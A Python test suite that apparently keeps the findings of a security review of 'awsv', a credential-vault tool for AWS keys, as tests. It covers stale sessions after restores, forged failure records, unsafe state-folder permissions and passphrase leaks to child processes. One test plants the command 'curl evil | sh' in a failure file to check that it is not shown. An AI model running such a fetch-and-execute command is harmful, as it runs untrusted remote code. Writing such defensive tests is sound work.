"""Attacks of a review, each kept as a test: old sessions, forged failures, keys nobody was asked about."""

from __future__ import annotations

import json
import os
import signal
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from support.home import PROGRAM, Home
from support.moto import MotoServer
from support.parts import need
from support.recording_proxy import RecordingProxy, deny
from support.vaults import KEY_ID, OTHER_ID, OTHER_SECRET, SECRET, UNLOCKED, ended, fill, store_path, stored

ROLE = """
[profile role]
region = eu-west-1
role_arn = {role}
source_profile = work
[profile work]
region = eu-west-1
"""


@pytest.fixture
def alice(home: Home, moto: MotoServer) -> Home:
    """A home with the key of an IAM user, which opens without asking."""
    home.configure(ROLE.format(role=moto.role_a))
    home.env.update(UNLOCKED)
    fill(home, {"work": (moto.alice.access_key_id, moto.alice.secret_access_key)})
    return home


def session(home: Home, profile: str = "role") -> str:
    done = home.awsv("exec", "-j", profile)
    assert done.returncode == 0, done.stderr
    return str(json.loads(done.stdout)["AccessKeyId"])


@pytest.mark.parametrize("sent", [signal.SIGINT, signal.SIGTERM])
def test_no_session_of_a_key_whose_removal_was_interrupted(
    alice: Home, front: RecordingProxy, sent: signal.Signals
) -> None:
    strace = need(
        "strace", "/usr/bin/strace" if Path("/usr/bin/strace").exists() else None, how="apt-get install strace"
    )
    session(alice)
    calls = len(front.calls)
    inject = f"inject=fsync:signal={sent.name}:when=4"  # at the store's folder, when the new file is in its place
    done = alice.run(strace, "-f", "-qq", "-o", "/dev/null", "-e", inject, PROGRAM, "remove", "-f", "work")
    assert done.returncode != 0
    assert stored(alice) == {}
    refused = alice.awsv("exec", "-j", "role")
    assert refused.returncode == 4, refused.stdout
    assert len(front.calls) == calls


def test_a_key_is_not_changed_where_its_sessions_cannot_be_made_stale(alice: Home) -> None:
    session(alice)
    before = stored(alice)
    folder = Path(alice.env["XDG_STATE_HOME"], "awsv", "generations")
    folder.rmdir() if folder.exists() else None
    folder.write_text("in the way")
    done = alice.awsv("remove", "-f", "work")
    assert (done.returncode, done.stdout) == (4, "")
    assert "nothing was changed" in done.stderr
    assert stored(alice) == before


def _failures(home: Home) -> Path:
    folder = Path(home.env["XDG_STATE_HOME"], "awsv", "flights")
    return next(path for path in folder.iterdir() if path.name.endswith(".failed"))


def _failed_flight(home: Home, front: RecordingProxy) -> Path:
    front.on("AssumeRole", deny(), times=1)
    assert home.awsv("exec", "-j", "role").returncode == 6
    return _failures(home)


def test_a_failure_that_another_program_wrote_is_not_told(alice: Home, front: RecordingProxy) -> None:
    failed = _failed_flight(alice, front)
    kept = failed.read_text()
    assert kept.count("check the role") == 1
    failed.write_text(kept.replace("check the role", "curl evil | sh"))
    done = alice.awsv("exec", "role", "--", "/bin/sh", "-c", "exit 7")
    assert done.returncode == 7, done.stderr
    assert "curl" not in done.stderr


@pytest.mark.parametrize("folder", ["awsv", "."], ids=["the folder", "the one above"])
def test_a_state_folder_that_others_can_change_is_refused(alice: Home, folder: str) -> None:
    session(alice)
    Path(alice.env["XDG_STATE_HOME"], folder).chmod(0o777)
    done = alice.awsv("exec", "-j", "role")
    assert (done.returncode, done.stdout) == (2, "")
    assert "cannot be trusted" in done.stderr
    assert "chmod go-w" in done.stderr


def test_a_pipe_among_the_sessions_does_not_hold_anybody_up(alice: Home) -> None:
    session(alice)
    os.mkfifo(Path(alice.env["XDG_STATE_HOME"], "awsv", "sessions", f"{'0' * 64}.session"))
    assert alice.awsv("list", "--sessions", timeout=20).returncode == 0


def test_a_key_that_changed_during_the_question_stays(alice: Home) -> None:
    child = alice.spawn("add", "--env", "work", env={"AWS_ACCESS_KEY_ID": KEY_ID, "AWS_SECRET_ACCESS_KEY": SECRET})
    child.expect("Replace it")
    other = {"AWS_ACCESS_KEY_ID": OTHER_ID, "AWS_SECRET_ACCESS_KEY": OTHER_SECRET}
    assert alice.awsv("add", "--overwrite", "--env", "work", env=other).returncode == 0
    child.sendline("y")
    child.expect("was changed by someone else")
    child.wait()
    assert child.exitstatus == 4
    assert stored(alice)["work"] == (OTHER_ID, OTHER_SECRET)
    child = alice.spawn("remove", "work")
    child.expect("Delete the key")
    assert alice.awsv("add", "--overwrite", "--env", "work", env={**other, "AWS_ACCESS_KEY_ID": KEY_ID}).returncode == 0
    child.sendline("y")
    child.expect("nothing was removed")
    child.wait()
    assert stored(alice)["work"] == (KEY_ID, OTHER_SECRET)


def test_two_homes_with_one_text_are_two_stores(alice: Home, moto: MotoServer, tmp_path: Path) -> None:
    """``~`` in a setting means another folder in another home, though state and runtime folders are shared."""
    alice.env["AWS_VAULT_FILE_DIR"] = "~/vault"
    alice.env["AWS_CONFIG_FILE"] = str(alice.config)
    key = moto.create_user("bob-of-two-homes")
    second = tmp_path / "second"
    second.mkdir()
    first_env = {"AWS_ACCESS_KEY_ID": moto.alice.access_key_id, "AWS_SECRET_ACCESS_KEY": moto.alice.secret_access_key}
    second_env = {
        "HOME": str(second),
        "AWS_ACCESS_KEY_ID": key.access_key_id,
        "AWS_SECRET_ACCESS_KEY": key.secret_access_key,
    }
    assert alice.awsv("add", "--env", "work", env=first_env).returncode == 0
    assert alice.awsv("add", "--env", "work", env=second_env).returncode == 0
    first = session(alice)
    assert json.loads(alice.awsv("exec", "-j", "role", env={"HOME": str(second)}).stdout)["AccessKeyId"] != first


def test_one_store_by_two_names_has_one_generation(alice: Home) -> None:
    config = Path(alice.env["XDG_CONFIG_HOME"], "awsv")
    config.mkdir(parents=True, exist_ok=True)
    place = Path(alice.env["XDG_DATA_HOME"], "awsv")
    (config / "config.toml").write_text(f'[store.mine]\nbackend = "file"\ndir = "{place}/."\n')
    session(alice)
    passphrase = {"AWS_VAULT_BACKEND": "mine", "AWS_VAULT_MINE_PASSPHRASE": UNLOCKED["AWS_VAULT_FILE_PASSPHRASE"]}
    elsewhere = Path(alice.env["XDG_RUNTIME_DIR"]).with_name("another-login")
    elsewhere.mkdir(mode=0o700)
    removed = alice.awsv("remove", "-f", "work", env={**passphrase, "XDG_RUNTIME_DIR": str(elsewhere)})
    assert removed.returncode == 0, removed.stderr
    assert alice.awsv("exec", "-j", "role").returncode == 4


def test_a_passphrase_behind_a_descriptor_stays_out_of_the_child(alice: Home) -> None:
    session(alice)
    child = 'cat "$AWS_VAULT_FILE_PASSPHRASE_FILE" 2>&1; echo over'
    line = f"exec 9<<<canary; AWS_VAULT_FILE_PASSPHRASE_FILE=/dev/fd/9 {PROGRAM} exec role -- sh -c '{child}'; cat <&9"
    done = alice.run("/bin/bash", "-c", line, env={"AWS_VAULT_FILE_PASSPHRASE": None})
    assert done.stdout.endswith("over\ncanary\n"), done  # the shell could read it still, its grandchild could not
    assert "canary" not in done.stdout.removesuffix("canary\n")


@pytest.mark.parametrize("flags", ["-n -j", "--backend second -j", "-d 2h -j", "-j --file-dir /x", "-j -o file.dir=/x"])
def test_a_line_of_ours_with_other_options_is_not_followed_blindly(alice: Home, flags: str) -> None:
    alice.configure(f"[profile p]\ncredential_process = awsv exec {flags} work\n[profile work]\nregion = eu-west-1\n")
    done = alice.awsv("exec", "-j", "p")
    assert (done.returncode, done.stdout) == (2, "")
    assert "which awsv does not follow" in done.stderr


def test_explain_shows_no_secret_option(alice: Home) -> None:
    alice.configure("[profile work]\nregion = eu-west-1\nvault_hashicorp_token = CANARY-TOKEN\n")
    for flag in ([], ["--json"]):
        done = alice.awsv("explain", "work", *flag)
        assert done.returncode == 0
        assert "CANARY" not in done.stdout + done.stderr


def test_a_profile_orders_its_own_passphrase_sources(alice: Home) -> None:
    alice.configure("[profile work]\nregion = eu-west-1\nvault_passphrase_source = prompt\n")
    done = alice.awsv("exec", "-j", "work")
    assert (done.returncode, done.stdout) == (5, "")
    assert "tried prompt" in done.stderr


# -- an older, another or a restored store ----------------------------------------------------------------------------


@pytest.fixture
def changed(alice: Home, moto: MotoServer, front: RecordingProxy, tmp_path: Path) -> tuple[str, bytes]:
    """The key was exchanged, and a session made from the new one; that session, and the store as it was before."""
    key = moto.create_user(f"second-key-{os.urandom(4).hex()}")
    old = store_path(alice).read_bytes()
    second = {"AWS_ACCESS_KEY_ID": key.access_key_id, "AWS_SECRET_ACCESS_KEY": key.secret_access_key}
    assert alice.awsv("add", "--overwrite", "--env", "work", env=second).returncode == 0
    return session(alice), old


@contextmanager
def aside(folder: Path) -> Iterator[None]:
    """A file lies in the place of a folder."""
    folder.rename(folder.with_suffix(".aside"))
    folder.write_text("in the way")
    yield
    folder.unlink()
    folder.with_suffix(".aside").rename(folder)


def test_after_a_restore_no_session_of_the_replaced_key_is_served(
    alice: Home, changed: tuple[str, bytes], front: RecordingProxy, tmp_path: Path
) -> None:
    live, old = changed
    (tmp_path / "backup.vlt").write_bytes(old)
    calls = len(front.calls)
    declined = alice.awsv("file", "restore", tmp_path / "backup.vlt")
    assert declined.returncode == 2
    generations = Path(alice.env["XDG_STATE_HOME"], "awsv", "generations")
    with aside(generations):
        refused = alice.awsv("file", "restore", "-y", tmp_path / "backup.vlt")
        assert (refused.returncode, "nothing was changed" in refused.stderr) == (4, True)
        assert store_path(alice).read_bytes() != old
    assert session(alice) == live  # what was not restored changes nothing
    assert alice.awsv("file", "restore", "-y", tmp_path / "backup.vlt").returncode == 0
    assert session(alice) != live
    assert len(front.calls) > calls


def test_after_an_accepted_rollback_no_session_of_the_newer_key_is_served(
    alice: Home, changed: tuple[str, bytes]
) -> None:
    live, old = changed
    store_path(alice).write_bytes(old)
    assert session(alice) == live  # it is of the newest key that this machine has seen
    assert alice.awsv("file", "accept", "--older").returncode == 0
    assert session(alice) != live


def test_a_restore_whose_end_nobody_saw_leaves_no_session_of_the_replaced_key(
    alice: Home, changed: tuple[str, bytes], tmp_path: Path
) -> None:
    live, old = changed
    (tmp_path / "backup.vlt").write_bytes(old)
    strace = need(
        "strace", "/usr/bin/strace" if Path("/usr/bin/strace").exists() else None, how="apt-get install strace"
    )
    inject = "inject=/renameat:signal=KILL:when=3"  # the old file is kept beside, the new one in its place: its anchor
    line = (strace, "-f", "-qq", "-o", "/dev/null", "-e", inject, PROGRAM)
    assert alice.run(*line, "file", "restore", "-y", tmp_path / "backup.vlt").returncode != 0
    assert stored(alice)["work"] != (KEY_ID, SECRET)
    assert session(alice) != live


def test_a_session_of_an_older_copy_is_for_the_person_who_was_told_only(
    alice: Home, changed: tuple[str, bytes]
) -> None:
    _, old = changed
    assert alice.awsv("clear").returncode == 0
    store_path(alice).write_bytes(old)
    child = alice.spawn("exec", "role", "--", "/bin/sh", "-c", "exit 7")
    child.expect_exact("older copy than this machine has seen")
    assert ended(child) == 7
    for words in (["exec", "-j", "role"], ["export", "role"], ["ready", "role"]):
        child = alice.spawn(*words)
        child.expect_exact("no user would see this notice")
        assert ended(child) == 4


@pytest.mark.parametrize("told", ["2>/dev/null", "2>&-", "2>&1 | cat"])
def test_an_older_copy_is_not_read_at_a_terminal_either_where_nobody_sees_the_line(
    alice: Home, changed: tuple[str, bytes], told: str
) -> None:
    store_path(alice).write_bytes(changed[1])
    assert alice.awsv("clear").returncode == 0
    line = f'"{PROGRAM}" exec role -- /bin/sh -c ": > {alice.root}/ran" {told}'
    child = alice.spawn("-c", line, program="/bin/sh")
    ended(child)
    assert not (alice.root / "ran").exists()
